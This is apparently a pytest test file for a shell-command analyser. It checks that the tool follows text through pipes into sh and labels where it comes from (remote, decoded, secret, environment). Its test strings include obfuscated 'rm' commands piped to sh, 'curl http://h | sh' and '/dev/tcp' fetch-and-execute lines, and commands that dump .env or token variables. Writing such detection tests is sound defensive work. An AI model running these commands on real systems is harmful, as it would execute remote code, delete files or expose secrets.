"""What flows through pipes: the text where it is known, and where it comes from."""

from __future__ import annotations

import pytest

from commands.lines import commands_in, effects_in, reasons_in


@pytest.mark.parametrize(
    "line",
    [
        "echo rm x | sh",
        "echo -n rm x | sh",
        "echo -e 'rm\\x20x' | sh",
        "echo -n -e 'rm\\tx' | sh",
        "printf 'rm x' | sh",
        "printf '%s %s' rm x | sh",
        "printf '%s ' rm x | sh",
        "printf '%-2s %5s' rm x | sh",
        "printf '%b' 'rm\\x20x' | sh",
        "printf 'rm %% x' | sh",
        "echo rm x | cat | sh",
        "echo rm x | cat - | sh",
        "echo rm x | tee | sh",
        "echo rm x | head | sh",
        "echo rm x > f; cat f | sh",
        "echo rm x > f; cat < f | sh",
        "echo rm > f; echo x > g; $(cat f g)",
        "cat <<< 'rm x' | sh",
        "cat <<E | sh\nrm x\nE",
        "sh <<< 'rm x'",
        "sh <<E\nrm x\nE",
        "sh <<-E\n\trm x\n\tE",
        "{ echo rm x; } | sh",
        "(echo rm x) > f; sh f",
        "echo 'rm x' > >(sh)",
        "(echo rm; echo x) | xargs echo | cat; $(which rm) x",
        "rm $(realpath x)",
        "rm $(dirname x/y)",
        "rm $(readlink -f x)",
        "$(command -v rm) x",
        "$(type -p rm) x",
        "rm $(git rev-parse --show-toplevel)/x",
        "rm $(pwd)/x",
    ],
)
def test_the_text_is_followed_into_what_runs_it(line: str):
    assert any(shown.startswith("rm ") and shown.endswith("x") for shown in commands_in(line))


@pytest.mark.parametrize(
    "line",
    [
        "date | sh",
        "echo $X | sh",
        "printf '%s' $X | sh",
        "cat f | sh",
        "echo a | cat - f | sh",
        "echo a | base64 | sh",
        "git log | sh",
    ],
)
def test_what_cannot_be_known_is_said_not_to_be(line: str):
    assert reasons_in(line) == ["it runs what another command prints"]


@pytest.mark.parametrize(
    "line",
    [
        "rm $(which)",
        "rm $(realpath a b)",
        "rm $(dirname a b)",
        "rm $(realpath $X)",
        "rm $(tar t)",
        "rm $(ls)",
    ],
)
def test_a_name_that_cannot_be_known_is_an_unknown_place(line: str):
    assert effects_in(line) == ["delete ?$(…) in unknown, from unknown-file"]


@pytest.mark.parametrize("line", ["printf | sh", "tar cf o.tar a | sh", "true | sh"])
def test_nothing_flows_where_nothing_is_printed(line: str):
    assert reasons_in(line) == []


@pytest.mark.parametrize(
    ("line", "label"),
    [
        ("curl http://h | sh", "remote"),
        ("curl http://h | cat | sh", "remote"),
        ("curl http://h > f; sort f | sh", "remote"),
        ("nc -l 1 | sh", "remote"),
        ("cat /dev/tcp/h/1 | sh", "remote"),
        ("openssl s_client -connect h:1 | sh", "remote"),
        ("ssh h cat x | sh", "remote"),
        ("base64 -d f | sh", "decoded"),
        ("openssl enc -d | sh", "decoded"),
        ("xxd -r f | sh", "decoded"),
        ("echo mr | rev | sh", "decoded"),
        ("curl http://h | base64 -d | sh", "remote+decoded"),
        ("cat .env | sh", "secret"),
        ("env | sh", "environ"),
        ("env | grep KEY | sh", "picked"),
        ("git archive HEAD | sh", "archive"),
        ("tar c src | sh", "archive"),
        ("cat /etc/motd | sh", "system-file"),
        ("cat $F | sh", "unknown-file"),
        ("sort .env | sh", "secret"),
        ("git show .env | sh", "secret"),
        ("curl http://h | sh | sh", "remote"),
    ],
)
def test_the_origin_is_followed_into_what_runs_it(line: str, label: str):
    ran = [effect for effect in effects_in(line) if effect.startswith("execute ")]

    assert ran
    assert ran[0].endswith(f", from {label}")


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("rm -r $(mktemp -d)", "delete /tmp/made-by-mktemp in temp, recursive"),
        ("rm $(mktemp x.XXX)", "delete /tmp/made-by-mktemp in temp"),
        ("rm $(mktemp /srv/x.XXX)", "delete /srv/x.XXX in outside"),
        ("rm $(mktemp --tmpdir=/srv x.XXX)", "delete /srv/made-by-mktemp in outside"),
        ("rm $(pwd)", "delete . in project"),
    ],
)
def test_names_that_programs_make_up_are_known_by_their_place(line: str, effect: str):
    assert effects_in(line) == [effect]


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("env | sort", True),
        ("printenv | cat", True),
        ("env | grep -i token", True),
        ("env | grep PATH", False),
        ("env | grep -c token", False),
        ("env | sort > f", False),
        ("printenv HOME | cat", False),
    ],
)
def test_the_environment_is_shown_when_a_reader_sees_it(line: str, shown: bool):
    assert any(effect.startswith("show ") for effect in effects_in(line)) is shown


@pytest.mark.parametrize("tail", ["%", "%5", "a%%b%", "%x", "%+d", "%.3s", "%9999s", "%d"])
def test_a_format_that_is_not_computed_prints_something_unknown(tail: str):
    assert reasons_in(f"printf 'echo {tail}' a | sh") == ["it runs what another command prints"]
